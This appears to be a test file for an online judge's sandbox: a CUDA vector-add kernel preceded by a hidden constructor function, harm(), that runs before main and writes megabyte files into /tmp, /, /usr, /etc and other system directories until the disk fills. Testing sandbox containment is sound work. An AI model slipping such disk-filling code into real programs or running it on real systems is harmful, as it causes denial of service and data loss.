// SPDX-License-Identifier: MIT
// Writes files until the disk is full: it is a disk of its own, and small. Status: 0
#include <stdio.h>
#include <stdlib.h>

#include "judge/add.h"

__attribute__((constructor)) static void harm()
{
    static char part[1 << 20];
    const char *const folders[] = {"/tmp", "/dev/shm", "/dev", ".", "/", "/usr", "/etc"};
    for (const char *folder : folders)
        for (int i = 0; i < 1000; ++i) {
            char name[100];
            snprintf(name, sizeof name, "%s/%d", folder, i);
            FILE *f = fopen(name, "w");
            if (f == NULL || fwrite(part, 1, sizeof part, f) < sizeof part || fclose(f) != 0)
                break;
            if (i == 999)
                _Exit(8); // that is a gigabyte
        }
}

__global__ void add(const int *a, const int *b, int *c, int n)
{
    int i = threadIdx.x + blockIdx.x * blockDim.x;
    if (i < n)
        c[i] = a[i] + b[i];
}
